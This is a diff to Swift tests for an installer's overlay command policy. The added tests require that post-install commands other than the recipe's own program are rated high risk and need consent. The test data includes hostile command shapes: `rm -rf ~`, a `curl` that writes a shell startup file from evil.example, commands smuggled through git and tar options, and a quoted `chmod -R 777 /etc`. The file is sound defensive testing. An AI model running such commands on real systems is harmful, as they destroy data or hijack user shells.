@@ -114,10 +114,31 @@ struct OverlayCommandPolicyTests {
             }
             #expect(command.risk == max(declared, .high), "\(argv0) root=\(root) declared \(declared): \(String(describing: command.risk))")
         }
-        let plain = "      post_install:\n        - command: {argv: [systemctl, daemon-reload], risk: medium}\n"
+        let plain = "      post_install:\n        - command: {argv: [goodbin, init, --quiet], risk: medium}\n"
         guard case .command(let command)? = try Self.overlaid(Self.recipe(post: plain)).get().recipe(named: "hostile-tool")?.methods.first?.postInstall.first
         else { Issue.record("no command"); return }
-        #expect(command.risk == .medium, "a user-level non-interpreter command keeps the risk the overlay gave it")
+        #expect(command.risk == .medium, "the recipe's own program with plain words, run as the user, keeps the risk the overlay gave it")
+    }
+
+    /// trust16 #7: a user-level command that is not the recipe's own program given plain words needs consent, however
+    /// harmless its program's name looks: it may write a shell startup file, run a command through an option, run a
+    /// package's build code or load any file. Generated from programs and arguments of those shapes.
+    @Test func anyOtherUserCommandIsHighRisk() throws {
+        let programs = ["rm", "curl", "cp", "git", "tar", "pip", "npm", "gem", "/lib64/ld-linux-x86-64.so.2", "systemctl", "ln", "goodbin"]
+        let arguments = [["-rf", "'~'"], ["-o", "'~/.bashrc'", "https://evil.example/x"], ["/tmp/x", "'~/.bashrc'"], ["-c", "core.pager=id", "log"],
+                         ["-xf", "x.tar", "--to-command=id"], ["install", "evil"], ["/tmp/x"], ["-s", "/tmp/x", "'~/.profile'"]]
+        var generator = SplitMix64(seed: 7)
+        for _ in 0..<60 {
+            let program = programs[Int(generator.next() % UInt64(programs.count))]
+            let argv = [program] + arguments[Int(generator.next() % UInt64(arguments.count))]
+            let post = "      post_install:\n        - command: {argv: [\(argv.joined(separator: ", "))], risk: low}\n"
+            let catalog = try Self.overlaid(Self.recipe(post: post)).get()
+            guard case .command(let command)? = catalog.recipe(named: "hostile-tool")?.methods.first?.postInstall.first else {
+                Issue.record("no command: \(argv)")
+                continue
+            }
+            #expect(command.risk == .high, "\(argv): \(String(describing: command.risk))")
+        }
     }
 
     @Test func languageArgsOutsideTheInstallersAllowListAreRefusedWithFileAndLine() {
@@ -257,8 +278,8 @@ struct OverlayProbeTests {
 }
 
 /// An overlay's post-install command run by a root evlog is root's: at least high (consent) and shown as root,
-/// whatever its `root:` says; run by a user it keeps the risk the overlay gave it (trust9 N11: `chmod -R 777 /etc`
-/// ran as root, low risk, no consent).
+/// whatever its `root:` says (trust9 N11: `chmod -R 777 /etc` ran as root, low risk, no consent); run by a user it
+/// needs consent too, not being the recipe's own program (trust16 #7).
 struct OverlayCommandAsRootTests {
     @Test(arguments: ["low", "medium"])
     func anOverlayCommandInARootPlanNeedsConsent(declared: String) throws {
@@ -272,7 +293,8 @@ struct OverlayCommandAsRootTests {
             if isRoot {
                 #expect(step.risk >= .high && step.needsRoot && plan.confirmationGate.contains(step.id), "\(profile): \(step.risk)")
             } else {
-                #expect(step.risk.rawValue == declared && !step.needsRoot, "\(profile): \(step.risk)")
+                // Not the recipe's own program: consent as the user too (trust16 #7), still not as root.
+                #expect(step.risk >= .high && !step.needsRoot && plan.confirmationGate.contains(step.id), "\(profile): \(step.risk)")
             }
         }
     }
